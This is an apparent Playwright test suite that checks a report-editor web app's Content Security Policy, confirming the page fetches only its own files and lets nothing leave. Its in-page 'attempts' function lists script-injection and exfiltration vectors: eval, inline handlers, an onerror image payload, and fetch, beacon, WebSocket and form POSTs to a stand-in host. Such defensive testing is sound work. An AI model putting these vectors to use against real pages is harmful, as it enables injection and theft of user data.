// What the page's policy lets through: its own files once, and nothing that was not built, nothing sent.
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { launch } from './chromium.mjs';
import { Clerk } from './clerk';
import { printsInTheWorker, readsAPublishedReport, seesTheWork, writesAReport } from './journey';
import { DIST, serve } from './server.mjs';

const ELSEWHERE = 'elsewhere.test';
test.use({ launchOptions: { ...launch, args: [...launch.args, `--host-resolver-rules=MAP ${ELSEWHERE} 127.0.0.1`] } });

/** Serves dist/ and writes down what is asked for. */
async function recordingHost() {
  const server: Server = await serve();
  const asked: string[] = [];
  server.on('request', ({ url }) => asked.push(url!));
  return { server, asked, home: addressOf(server) };
}

const addressOf = (server: Server, host = '127.0.0.1') => `http://${host}:${(server.address() as { port: number }).port}/`;

/** Everything that was refused in any document, as `directive what`. */
async function refusals(page: Page) {
  await page.addInitScript(() => {
    (window.top as any).refused ??= [];
    document.addEventListener('securitypolicyviolation', (event) =>
      (window.top as any).refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  const words: string[] = [];
  page.on('console', (message) => {
    if (/content.security.policy/i.test(message.text())) words.push(message.text());
  });
  return { words, list: (): Promise<string[]> => page.evaluate(() => (window as any).refused) };
}

const PLACES = {
  'on a host': async () => {
    const { server, home } = await recordingHost();
    return { home, end: () => server.close() };
  },
  'as one file': async () => ({ home: pathToFileURL(join(DIST, 'nianbao.html')).href, end: () => {} }),
};

test('a host is asked for the page’s own files, and for nothing once they are there', async ({ page, context }) => {
  const { server, asked, home } = await recordingHost();
  const seen: string[] = [];
  context.on('request', (request) => seen.push(request.url()));
  const clerk = new Clerk(page, home);
  await page.goto(home);
  await expect(page.locator('main.drafts')).toBeVisible();
  await page.evaluate(() => navigator.serviceWorker.ready);
  await expect.poll(() => page.evaluate(() => Boolean(navigator.serviceWorker.controller))).toBe(true);
  const own = /^\/(|index\.html|sw\.js|manifest\.json|icons\/[\w-]+\.(svg|png)|nianbao-(page|worker|reader)-[0-9a-f]{1,16}(_bg\.wasm|\.js))$/;
  expect(asked.filter((path) => !own.test(path))).toEqual([]);
  const before = asked.length;

  await writesAReport(clerk);
  await printsInTheWorker(clerk);
  await page.reload();
  await seesTheWork(clerk);
  await readsAPublishedReport(clerk);
  // The browser itself looks whether there is a newer version.
  expect(asked.slice(before).filter((path) => path !== '/sw.js')).toEqual([]);
  expect(seen.filter((url) => !url.startsWith(home) && !/^(blob|data):/.test(url) && url !== 'about:srcdoc')).toEqual([]);
  expect(clerk.failures).toEqual([]);
  server.close();
});

for (const [place, prepare] of Object.entries(PLACES)) {
  test(`${place}, nothing that the editor does is refused`, async ({ page }) => {
    const { home, end } = await prepare();
    const { words, list } = await refusals(page);
    const clerk = new Clerk(page, home);
    await page.goto(home);
    await expect(page.locator('main.drafts')).toBeVisible();
    await writesAReport(clerk);
    await printsInTheWorker(clerk);
    expect(await list()).toEqual([]);
    await page.reload();
    await seesTheWork(clerk);
    await clerk.exportsJson();
    await readsAPublishedReport(clerk);
    expect(await list()).toEqual([]);
    expect(words).toEqual([]);
    expect(clerk.failures).toEqual([]);
    end();
  });

  test(`${place}, what was not built does not run and nothing leaves`, async ({ page, context }) => {
    const { home, end } = await prepare();
    const elsewhere = await listener();
    const { list } = await refusals(page);
    await page.goto(home);
    await expect(page.locator('main.drafts')).toBeVisible();
    await page.evaluate(attempts, elsewhere.address);
    await expect.poll(async () => (await list()).length).toBeGreaterThanOrEqual(20);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as any).ran)).toEqual([]);
    expect(elsewhere.asked).toEqual([]);
    expect(new Set((await list()).map((refusal) => refusal.split(' ')[0]))).toEqual(
      new Set(['script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem', 'style-src-attr', 'img-src',
        'connect-src', 'worker-src', 'frame-src', 'object-src', 'media-src', 'font-src', 'form-action', 'base-uri']),
    );
    await heardFrom(context, elsewhere);
    end();
  });
}

/** Another host, that writes down whoever comes. */
async function listener() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url!);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('window.ran.push("sent for")');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return { asked, server, address: addressOf(server, ELSEWHERE) };
}

/** Proves that the other host would have been reached. */
async function heardFrom(context: BrowserContext, { server, asked, address }: Awaited<ReturnType<typeof listener>>) {
  const other = await context.newPage();
  await other.goto(address);
  expect(asked).toContain('/');
  server.close();
}

/** In the page: everything by which a script that slipped in would run or send. */
function attempts(elsewhere: string) {
  const ran: string[] = ((window as any).ran = []);
  const attempt = (act: () => unknown) => {
    try {
      Promise.resolve(act()).catch(() => {});
    } catch { /* refused */ }
  };
  const add = (name: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  // Not while the debugger is calling: what it runs is above the policy.
  setTimeout(() => {
    attempt(() => (0, eval)('ran.push("eval")'));
    attempt(() => new Function('ran.push("Function")')());
    attempt(() => setTimeout('ran.push("timer")'));
    attempt(() => (add('button', { onclick: 'ran.push("handler")' }) as HTMLButtonElement).click());
    attempt(() => { add('div', {}).innerHTML = '<img src="no-such:" onerror="ran.push(\'onerror\')">'; });
    attempt(() => add('script', {}, 'ran.push("script")'));
    attempt(() => add('script', { type: 'module' }, 'ran.push("module")'));
    attempt(() => add('script', { src: `${elsewhere}script` }));
    attempt(() => import(`${elsewhere}import`));
    attempt(() => { location.href = 'javascript:ran.push("address")'; });
    attempt(() => add('style', {}, 'body { display: none }'));
    attempt(() => add('p', { style: 'color: red' }));
    attempt(() => add('link', { rel: 'stylesheet', href: `${elsewhere}style` }));
    attempt(() => add('img', { src: `${elsewhere}img` }));
    attempt(() => { add('p', {}).style.backgroundImage = `url(${elsewhere}background)`; });
    attempt(() => fetch(`${elsewhere}fetch`, { method: 'POST', body: 'report' }));
    attempt(() => {
      const request = new XMLHttpRequest();
      request.open('POST', `${elsewhere}request`);
      request.send('report');
    });
    attempt(() => navigator.sendBeacon(`${elsewhere}beacon`, 'report'));
    attempt(() => new WebSocket(elsewhere.replace('http', 'ws')));
    attempt(() => new EventSource(`${elsewhere}events`));
    attempt(() => new Worker('data:text/javascript,'));
    attempt(() => add('iframe', { src: `${elsewhere}frame` }));
    attempt(() => add('object', { data: `${elsewhere}object` }));
    attempt(() => add('video', { src: `${elsewhere}video` }));
    attempt(() => new FontFace('f', `url(${elsewhere}font)`).load());
    attempt(() => (add('form', { action: `${elsewhere}form`, method: 'post' }) as HTMLFormElement).submit());
    attempt(() => add('base', { href: elsewhere }));
  });
}
